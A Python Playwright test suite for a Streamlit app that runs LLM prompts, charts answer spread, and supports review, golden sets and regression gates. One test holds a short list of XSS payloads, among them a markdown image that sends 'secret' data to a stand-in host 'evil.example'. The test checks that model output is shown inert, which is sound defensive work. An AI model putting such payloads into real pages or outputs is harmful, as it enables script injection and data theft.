"""The whole app in a real headless Chromium (Debian's /usr/bin/chromium, driven by Playwright).

`make test` installs Chromium with apt-get; Playwright never downloads a browser here.
A failing test leaves a screenshot in tests/artifacts/.
"""

import asyncio
import json
import os
import re
import shutil
import sqlite3
import socket
import subprocess
import sys
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import expect

from conftest import ROOT
from core.store import Store
from core.run import plan, runner

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARTIFACTS = ROOT / "tests" / "artifacts"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists() and not os.environ.get("CI"),
                       reason="Debian's chromium is not installed (make test installs it)"),
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def streamlit_server(db: str, log_path: Path):
    """`streamlit run app.py` on a free loopback port against `db` (a path or a URL); its URL."""
    port = free_port()
    with open(log_path, "w") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"),
             "--server.port", str(port), "--server.address", "127.0.0.1", "--server.headless", "true"],
            cwd=ROOT, env=dict(os.environ, SPREAD_DB=db), stdout=log, stderr=subprocess.STDOUT,
        )
        url = f"http://127.0.0.1:{port}"
        deadline = time.time() + 60
        while time.time() < deadline:
            try:
                if urllib.request.urlopen(f"{url}/_stcore/health", timeout=1).status == 200:
                    break
            except OSError:
                time.sleep(0.3)
        else:
            process.kill()
            pytest.fail("streamlit did not start: " + log_path.read_text()[-2000:])
        try:
            yield url
        finally:
            process.terminate()
            process.wait(timeout=20)


@pytest.fixture
def served_app(spread_home):
    """`streamlit run app.py` on a free loopback port, with its own database."""
    with streamlit_server(str(spread_home / "browser.db"), spread_home / "streamlit.log") as url:
        yield url, spread_home / "browser.db"


@pytest.fixture
def page(request):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM, headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        )
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        yield page
        if getattr(request.node, "failed", False):
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        browser.close()


def goto(page, name: str) -> None:
    """Open a page through the sidebar navigation, as a user does (clicking again, as a
    user would, when the click lands while the app is mid-rerun and is dropped)."""
    heading = page.get_by_role("heading", name=name, exact=True).first
    for _ in range(3):
        page.get_by_role("link", name=name, exact=True).click()
        try:
            heading.wait_for(timeout=15_000)
            return
        except Exception:  # playwright's TimeoutError
            continue
    heading.wait_for(timeout=15_000)


def fill_each(page, changes) -> None:
    """Type into each field in turn, as a user does: each one commits when the next takes
    the focus, while the rerun it starts is still drawing (Enter commits the last)."""
    for role, name, value in changes:
        field = page.get_by_role(role, name=name)
        field.fill(value)
    field.press("Enter")


@pytest.mark.local_model
def test_a_page_opened_by_its_address_on_a_fresh_server_goes_through_the_app(served_app, page):
    """The first visitor of a new server opening /review directly still gets the app: its
    navigation, sidebar (and so its login gate), not the page's file run on its own."""
    url, _ = served_app
    page.goto(f"{url}/review")
    page.get_by_role("textbox", name="Reviewer").wait_for(timeout=30_000)  # the sidebar
    page.get_by_role("heading", name="Review", exact=True).wait_for(timeout=15_000)
    assert page.get_by_role("link", name="Playground", exact=True).count() == 1
    assert page.get_by_role("link", name="app", exact=True).count() == 0  # no legacy pages/ list


def test_newcomer_path_run_spread_label_golden_export(served_app, page, tmp_path):
    url, db_path = served_app
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").fill("ana")
    page.get_by_role("textbox", name="Reviewer").press("Enter")
    page.get_by_role("textbox", name="Prompt", exact=True).fill("What is the capital of France?")
    fill_each(page, (("textbox", "Temperatures", "0, 1"), ("spinbutton", "Samples (N)", "3"),
                     ("spinbutton", "Max tokens", "12")))
    page.get_by_text("6 calls").wait_for(timeout=30_000)
    page.get_by_text("completion tokens ≤ 72").wait_for(timeout=30_000)  # 2 × 3 × 12: every field kept
    page.get_by_role("button", name="Run", exact=True).click()

    # The progress bar fills in, then the run is done.
    page.get_by_text("Run 1: running").or_(page.get_by_text("Run 1: done")).first.wait_for(timeout=60_000)
    page.get_by_text("Run 1: done").wait_for(timeout=120_000)
    page.get_by_text("6/6 samples").wait_for(timeout=10_000)
    with sqlite3.connect(db_path) as db:
        rows = db.execute("select model, error_type, text from responses").fetchall()
        assert db.execute("select created_by from runs").fetchone()[0] == "ana"
    assert len(rows) == 6 and all(m == "local/smollm2-135m-instruct" and e is None for m, e, _ in rows)

    goto(page, "Spread")
    page.locator(".js-plotly-plot").first.wait_for(timeout=60_000)
    assert page.locator(".js-plotly-plot").count() >= 5
    page.get_by_text("meaning clusters (formed per input)").wait_for()

    goto(page, "Review")
    page.get_by_text("1 of").first.wait_for(timeout=60_000)
    first = page.get_by_role("heading", name=re.compile(r"^1 of \d+")).inner_text()
    size = int(re.search(r"cluster of (\d+)", first).group(1)) if "cluster" in first else 1
    page.get_by_role("heading", name="Review").first.click()  # focus out of any text box
    page.keyboard.press("p")  # the Pass shortcut
    page.get_by_text(f"{size}/6 answers labelled by ana").wait_for(timeout=30_000)
    with sqlite3.connect(db_path) as db:
        labels = db.execute("select reviewer, verdict, via_cluster from labels").fetchall()
    assert len(labels) == size and {(r, v) for r, v, _ in labels} == {("ana", "pass")}

    if int(re.search(r"^1 of (\d+)", first).group(1)) > 1:  # labelling moved on: back to the cluster just passed
        page.get_by_role("heading", name=re.compile(r"^2 of")).wait_for(timeout=30_000)
        page.get_by_role("button", name="Previous").click()
    page.get_by_role("heading", name=re.compile(r"^1 of")).wait_for(timeout=30_000)
    page.get_by_text("Add to a golden set").click()
    new_set = page.get_by_role("textbox", name="…or a new set")
    new_set.fill("capitals")
    new_set.press("Enter")
    expect(page.get_by_role("button", name="Add as a new item")).to_be_enabled(timeout=30_000)
    page.get_by_role("button", name="Add as a new item").click()
    page.get_by_text("Added to 'capitals': version 1").wait_for(timeout=30_000)

    page.keyboard.press("Escape")
    goto(page, "Golden sets")
    with page.expect_download(timeout=30_000) as download:
        page.get_by_role("button", name="jsonl").click()
    exported = tmp_path / "capitals.jsonl"
    download.value.save_as(exported)
    (item,) = [json.loads(line) for line in exported.read_text().splitlines()]
    assert item["set"] == "capitals" and item["set_version"] == 1
    assert item["input"]["prompt"] == "What is the capital of France?"
    assert item["reference"] and item["accepted"]
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "golden-page.png"), full_page=True)


@pytest.mark.local_model
def test_two_wordings_over_three_inputs_through_the_ui_then_the_spread_page(served_app, page):
    url, db_path = served_app
    page.goto(url)
    page.get_by_role("textbox", name="Prompt", exact=True).fill("What is the capital of {{country}}?")
    page.get_by_role("button", name="Add a wording").click()
    page.get_by_role("textbox", name="Variant B").fill("Name the capital city of {{ country }}.")
    page.get_by_text("pasted text").click()
    inputs = page.get_by_role("textbox", name="CSV with a header row, or JSON Lines")
    inputs.fill("country,expected\nFrance,Paris\nJapan,Tokyo\nItaly,Rome")
    inputs.press("Control+Enter")
    page.get_by_text("3 inputs · variables: country, expected").wait_for(timeout=30_000)
    fill_each(page, (("textbox", "Temperatures", "0, 1"), ("spinbutton", "Samples (N)", "2"),
                     ("spinbutton", "Max tokens", "12")))
    page.get_by_text("completion tokens ≤ 288").wait_for(timeout=30_000)  # 2 × 3 × 2 × 2 × 12
    page.get_by_text("24 calls").wait_for(timeout=30_000)  # the estimate, before anything runs
    page.get_by_text("2 wordings × 3 inputs").first.wait_for()
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Run 1: done").wait_for(timeout=180_000)
    with sqlite3.connect(db_path) as db:
        cells = db.execute("select count(distinct variant), count(distinct input), count(*) from responses").fetchone()
        sent = {r[0] for r in db.execute("select prompt from run_prompts")}
    assert cells == (2, 3, 24)
    assert "Name the capital city of Japan." in sent and "What is the capital of Italy?" in sent

    page.get_by_role("link", name="See how run 1 spread").click()
    page.get_by_role("heading", name="Spread", exact=True).wait_for(timeout=30_000)
    page.locator(".js-plotly-plot").first.wait_for(timeout=60_000)
    page.get_by_role("heading", name="Wording or sampling?").wait_for(timeout=30_000)
    page.get_by_text("2 wording(s) · 3 input(s)").wait_for()
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "spread-two-wordings.png"), full_page=True)


HOSTILE = [
    "<script>window.__pwned = 'script'</script>",
    '<img src=x onerror="window.__pwned = \'img\'">',
    "![leak](http://evil.example/leak.png?data=secret)",
    "[click me](javascript:window.__pwned='link')",
]


def test_model_output_is_shown_inert_in_the_browser(served_app, page, stub):
    url, db_path = served_app
    store = Store(db_path)
    stub.answers = HOSTILE
    run_id = plan.create(store, plan.RunSpec(prompt="Say something.", models=["openai/stub-a"], temperatures=[1.0],
                                          n=12, api_base=stub.base_url, seed=1))
    # Playwright's sync API owns this thread's event loop: sample on another thread.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, runner.execute(store, run_id)).result()
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").fill("ana")
    page.get_by_role("textbox", name="Reviewer").press("Enter")
    for name in ("Runs", "Spread", "Review", "Compare"):
        goto(page, name)
        page.wait_for_timeout(1500)
        for expander in page.locator("details summary").all()[:6]:
            expander.click()
        page.wait_for_timeout(500)
        assert page.evaluate("window.__pwned") is None, name
        assert page.locator("img[src='x'], img[src*='evil.example']").count() == 0, name
        assert page.locator("a[href^='javascript:']").count() == 0, name
    shown = page.locator('[data-testid="stText"]').filter(has_text=re.compile(r"__pwned|evil\.example"))
    shown.first.wait_for()  # the answers are on the page, as plain text
    assert not dialogs
    assert not [u for u in requests if "evil.example" in u]


@pytest.mark.local_model
def test_an_endpoint_added_on_the_models_page_is_tested_then_run_beside_the_embedded_model(served_app, page, stub):
    url, db_path = served_app
    stub.answers = ["Paris."]
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").wait_for(timeout=60_000)  # the app's own sidebar is drawn
    goto(page, "Models")
    page.get_by_text("No endpoints yet").wait_for(timeout=30_000)
    page.get_by_role("textbox", name="Name", exact=True).fill("team-vllm")
    page.get_by_role("textbox", name="litellm model id").fill("openai/served")
    page.get_by_role("textbox", name="API base").fill(stub.base_url)
    params = page.get_by_role("textbox", name="Parameters, one KEY=VALUE per line")
    params.fill("top_k=40")
    params.press("Control+Enter")
    page.get_by_role("button", name="Test", exact=True).click()
    page.get_by_text("model reported: served-2024-stub").wait_for(timeout=60_000)
    page.locator('[data-testid="stText"]').filter(has_text="Paris.").wait_for()
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("Saved 'team-vllm'.").wait_for(timeout=30_000)
    page.get_by_role("heading", name="Endpoints (1)").wait_for(timeout=30_000)
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "models-page.png"), full_page=True)
    with sqlite3.connect(db_path) as db:
        assert db.execute("select name, model, api_base, params from endpoints").fetchall() == [
            ("team-vllm", "openai/served", stub.base_url, '{"top_k": 40}')]

    goto(page, "Playground")
    page.get_by_role("textbox", name="Prompt", exact=True).fill("What is the capital of France?")
    fill_each(page, (("textbox", "Temperatures", "1"), ("spinbutton", "Samples (N)", "2"),
                     ("spinbutton", "Max tokens", "8")))
    page.get_by_text("completion tokens ≤ 16").wait_for(timeout=30_000)  # 1 × 2 × 8
    page.locator('[data-testid="stMultiSelect"]').first.click()
    page.get_by_role("option", name="team-vllm").click()
    page.keyboard.press("Escape")
    page.get_by_text("4 calls").wait_for(timeout=30_000)  # 2 models × N=2
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Run 1: done").wait_for(timeout=180_000)
    with sqlite3.connect(db_path) as db:
        rows = db.execute("select model, error_type from responses").fetchall()
        spec = json.loads(db.execute("select spec from runs").fetchone()[0])
    assert sorted(rows) == [("local/smollm2-135m-instruct", None)] * 2 + [("team-vllm", None)] * 2
    assert spec["endpoints"]["team-vllm"]["api_base"] == stub.base_url
    assert stub.count() == 3 and all(r["body"]["top_k"] == 40 for r in stub.requests)  # the test call and two
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "endpoint-beside-embedded.png"), full_page=True)


def choose_only_model(page, name: str) -> None:
    """Replace the Playground's chosen models by one (Backspace drops the preselected chip)."""
    models = page.locator('[data-testid="stMultiSelect"]').first
    models.click()
    page.keyboard.press("Backspace")
    page.get_by_role("option", name=name, exact=True).click()
    page.keyboard.press("Escape")


def test_a_team_walks_the_whole_path_and_loses_nothing(served_app, page, stub, tmp_path):
    """Models → Playground (two wordings, a CSV) → Spread → Compare → Review → golden set
    → Regression → Runs, as a new team would: the plan survives every page, a cost that no
    price map knows is never shown as $0, and the views name inputs by their variables."""
    url, db_path = served_app
    store = Store(db_path)
    stub.answers = ["Paris."]
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").fill("ana")
    page.get_by_role("textbox", name="Reviewer").press("Enter")
    goto(page, "Models")
    page.get_by_role("textbox", name="Name", exact=True).fill("team-stub")
    page.get_by_role("textbox", name="litellm model id").fill("openai/served")
    page.get_by_role("textbox", name="API base").fill(stub.base_url)
    page.get_by_role("textbox", name="API base").press("Enter")
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("Saved 'team-stub'.").wait_for(timeout=30_000)

    goto(page, "Playground")
    page.get_by_role("textbox", name="Prompt", exact=True).fill("What is the capital of {{country}}?")
    page.get_by_role("button", name="Add a wording").click()
    page.get_by_role("textbox", name="Variant B").fill("Name the capital city of {{ country }}.")
    page.get_by_text("pasted text").click()
    inputs = page.get_by_role("textbox", name="CSV with a header row, or JSON Lines")
    inputs.fill("country,expected\nFrance,Paris\nPeru,Lima\nJapan,Tokyo")
    inputs.press("Control+Enter")
    page.get_by_text("3 inputs · variables: country, expected").wait_for(timeout=30_000)
    fill_each(page, (("textbox", "Temperatures", "0, 1"), ("spinbutton", "Samples (N)", "3")))
    choose_only_model(page, "team-stub")
    # The stub's model is in no price map: the estimate says unknown, never $0.
    estimate = page.locator('[data-testid="stAlert"]').filter(has_text="36 calls")
    estimate.filter(has_text="cost unknown (no price for team-stub)").wait_for(timeout=30_000)
    assert "$0" not in estimate.first.inner_text()

    # Every other page, then back: the whole plan is still there.
    for name in ("Spread", "Compare", "Review", "Regression", "Runs", "Golden sets"):
        goto(page, name)
    goto(page, "Playground")
    # (expect waits for the page to finish drawing the kept values)
    expect(page.get_by_role("textbox", name="Variant A")).to_have_value("What is the capital of {{country}}?")
    expect(page.get_by_role("textbox", name="Variant B")).to_have_value("Name the capital city of {{ country }}.")
    expect(page.get_by_role("textbox", name="CSV with a header row, or JSON Lines")).to_have_value(
        "country,expected\nFrance,Paris\nPeru,Lima\nJapan,Tokyo")
    expect(page.get_by_role("textbox", name="Temperatures")).to_have_value("0, 1")
    expect(page.get_by_role("spinbutton", name="Samples (N)")).to_have_value("3")
    page.get_by_text("36 calls").wait_for(timeout=30_000)
    # A reload is a new session: the draft brings the plan back.
    page.reload()
    expect(page.get_by_role("textbox", name="Variant B")).to_have_value("Name the capital city of {{ country }}.",
                                                                        timeout=60_000)
    expect(page.get_by_role("textbox", name="Reviewer")).to_have_value("ana")

    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Run 1: done").wait_for(timeout=120_000)
    page.get_by_text("Cost so far unknown").wait_for(timeout=30_000)
    with sqlite3.connect(db_path) as db:
        assert db.execute("select count(*), count(cost_usd) from responses").fetchone() == (36, 0)

    goto(page, "Spread")
    page.locator(".js-plotly-plot").first.wait_for(timeout=60_000)
    page.get_by_text("No cost chart: no answer of this run has a known price.").wait_for(timeout=30_000)
    goto(page, "Runs")
    page.get_by_text("Run 1: done").first.wait_for(timeout=30_000)
    body = page.locator("body").inner_text()
    assert "0.000000" not in body and "$0.0000" not in body
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "team-path-runs.png"), full_page=True)
    goto(page, "Compare")
    page.get_by_role("heading", name="Per input").wait_for(timeout=60_000)
    page.get_by_text("#2 country=Peru, expected=Lima").first.wait_for(state="attached", timeout=30_000)  # by variables
    page.screenshot(path=str(ARTIFACTS / "team-path-compare.png"), full_page=True)

    # Review: fail the first cluster; as a golden item it can only be a rejected example.
    goto(page, "Review")
    page.get_by_role("heading", name=re.compile(r"^1 of \d+")).wait_for(timeout=60_000)
    page.get_by_role("button", name="Fail").click()
    page.get_by_text("12/36 answers labelled by ana").wait_for(timeout=30_000)
    page.get_by_role("heading", name=re.compile(r"^2 of")).wait_for(timeout=30_000)
    page.get_by_role("button", name="Previous").click()  # back to the cluster just failed
    page.get_by_role("heading", name=re.compile(r"^1 of")).wait_for(timeout=30_000)
    page.get_by_text("Add to a golden set").click()
    page.get_by_role("textbox", name="…or a new set").fill("capitals")
    add = page.get_by_role("button", name="Add as a new item")
    page.get_by_text("This answer was failed").wait_for(timeout=30_000)
    expect(add).to_be_disabled(timeout=10_000)  # a failed answer never becomes a reference on its own
    correction = page.get_by_role("textbox", name="Correct answer (the reference)")
    correction.fill("The right capital")
    correction.press("Control+Enter")
    expect(add).to_be_enabled(timeout=10_000)
    add.click()
    page.get_by_text("Added to 'capitals': version 1").wait_for(timeout=30_000)
    page.keyboard.press("Escape")
    with sqlite3.connect(db_path) as db:
        reference, accepted, rejected = db.execute("select reference, accepted, rejected from golden_items").fetchone()
    assert reference == "The right capital" and "Paris." in json.loads(rejected)
    assert "Paris." not in json.loads(accepted)

    # Regression: the candidate gives the rejected answer every time. With two samples the
    # gate cannot pass it: it fails, or says it cannot tell yet.
    goto(page, "Regression")
    page.get_by_role("textbox", name="Candidate model").fill("team-stub")
    page.get_by_role("spinbutton", name="Samples per item (K)").fill("2")
    page.get_by_role("spinbutton", name="Minimum pass rate (0 = no gate)").fill("0.5")
    page.get_by_role("button", name="Run the regression").click()
    verdict = page.get_by_text(re.compile(r"cannot tell yet \(inconclusive\)|fail — a gate is broken")).first
    verdict.wait_for(timeout=120_000)
    assert page.get_by_text("pass — the gate holds").count() == 0
    assert "$0" not in page.locator("body").inner_text()
    page.screenshot(path=str(ARTIFACTS / "team-path-regression.png"), full_page=True)


CAPITALS = {"France": "Paris.", "Japan": "Tokyo.", "Egypt": "Cairo.", "Peru": "Lima."}


def capitals_run(store, stub) -> int:
    """A finished run with one answer per country: four review items in a row."""
    stub.respond = lambda body: next(city for country, city in CAPITALS.items()
                                     if country in body["messages"][-1]["content"])
    run_id = plan.create(store, plan.RunSpec(prompt="", variants=[plan.Variant("What is the capital of {{country}}?")],
                                      inputs=[{"country": c} for c in CAPITALS], models=["openai/stub-a"],
                                      temperatures=[0.0], n=1, api_base=stub.base_url, seed=1))
    with ThreadPoolExecutor(1) as pool:  # Playwright's sync API owns this thread's event loop
        pool.submit(asyncio.run, runner.execute(store, run_id)).result()
    return run_id


def test_four_items_in_a_row_each_keep_the_reference_typed_for_them(store, served_app, page, stub):
    """Review four answers in a row as a reviewer does — open the popover, type the item's own
    reference, Add, Pass — and each golden item keeps its own reference: the popover opens
    empty on every new item (a reference typed for Japan once became Egypt's)."""
    url, db_path = served_app
    store = Store(db_path)
    capitals_run(store, stub)
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").fill("ana")
    page.get_by_role("textbox", name="Reviewer").press("Enter")
    goto(page, "Review")
    typed = {}
    for position in range(1, 5):
        page.get_by_role("heading", name=re.compile(rf"^{position} of 4")).wait_for(timeout=60_000)
        prompt = page.locator('[data-testid="stText"]').filter(has_text="What is the capital of").first.inner_text()
        country = next(c for c in CAPITALS if c in prompt)
        page.get_by_text("Add to a golden set").click()
        reference = page.get_by_role("textbox", name="Reference (empty: this answer)")
        expect(reference).to_have_value("", timeout=10_000)  # nothing carried over from the last item
        new_set = page.get_by_role("textbox", name="…or a new set")
        expect(new_set).to_have_value("", timeout=10_000)
        if position == 1:
            new_set.fill("capitals")
            new_set.press("Enter")
        typed[country] = f"The capital of {country}, typed by hand"
        reference.fill(typed[country])
        reference.press("Control+Enter")
        page.wait_for_timeout(500)
        page.get_by_role("button", name="Add as a new item").click()
        page.get_by_text(f"Added to 'capitals': version {position}").wait_for(timeout=30_000)
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Pass").click()
    page.get_by_text("4/4 answers labelled by ana").wait_for(timeout=30_000)
    with sqlite3.connect(db_path) as db:
        stored = db.execute(
            "select golden_items.reference, run_inputs.vars from golden_items "
            "join responses on responses.id = golden_items.source_response_id "
            "join run_inputs on run_inputs.run_id = responses.run_id and run_inputs.input = responses.input "
            "where golden_items.deleted_at is null").fetchall()
    assert {json.loads(vars_)["country"]: reference for reference, vars_ in stored} == typed


def test_another_reviewers_label_and_the_disagreement_appear_without_a_click(store, served_app, page, stub):
    """With Review open and nobody touching it, a label another reviewer gives elsewhere (here
    written through core, as another server would) and the disagreement it makes show up by
    themselves within about ten seconds (the page redraws that part every 5 s)."""
    from core.review import labels

    url, db_path = served_app
    store = Store(db_path)
    run_id = capitals_run(store, stub)
    page.goto(url)
    page.get_by_role("textbox", name="Reviewer").fill("ana")
    page.get_by_role("textbox", name="Reviewer").press("Enter")
    goto(page, "Review")
    page.get_by_role("heading", name=re.compile(r"^1 of 4")).wait_for(timeout=60_000)
    page.get_by_role("button", name="Pass").click()
    page.get_by_text("1/4 answers labelled by ana").wait_for(timeout=30_000)
    page.get_by_text(re.compile(r"so far: ana;")).wait_for(timeout=30_000)
    with sqlite3.connect(db_path) as db:
        (passed,) = db.execute("select response_id from labels where reviewer = 'ana'").fetchone()
    labels.label(store, passed, "ben", labels.Label("fail"))
    started = time.time()
    page.get_by_text("Answers the reviewers disagree on: 1").wait_for(timeout=12_000)
    # Drawn by the same redraw, a moment later on a loaded machine: waited for, not counted at once.
    page.get_by_text(f"Run {run_id}: agreement").first.wait_for(timeout=12_000)
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "review-refreshes-by-itself.png"), full_page=True)
    print(f"disagreement shown {time.time() - started:.1f} s after the other reviewer's label")
    # Two others disagree on the answer now on screen: its own line says so, again with no click.
    with sqlite3.connect(db_path) as db:
        others = [rid for (rid,) in db.execute("select id from responses where id != ?", [passed]).fetchall()]
    for rid in others:
        labels.label(store, rid, "ben", labels.Label("pass"))
        labels.label(store, rid, "cat", labels.Label("fail"))
    page.get_by_text(re.compile(r"^Reviewers disagree on answers \d+$")).wait_for(timeout=12_000)
    page.get_by_role("heading", name=re.compile(r"^2 of 4")).wait_for(timeout=1_000)  # still where ana was
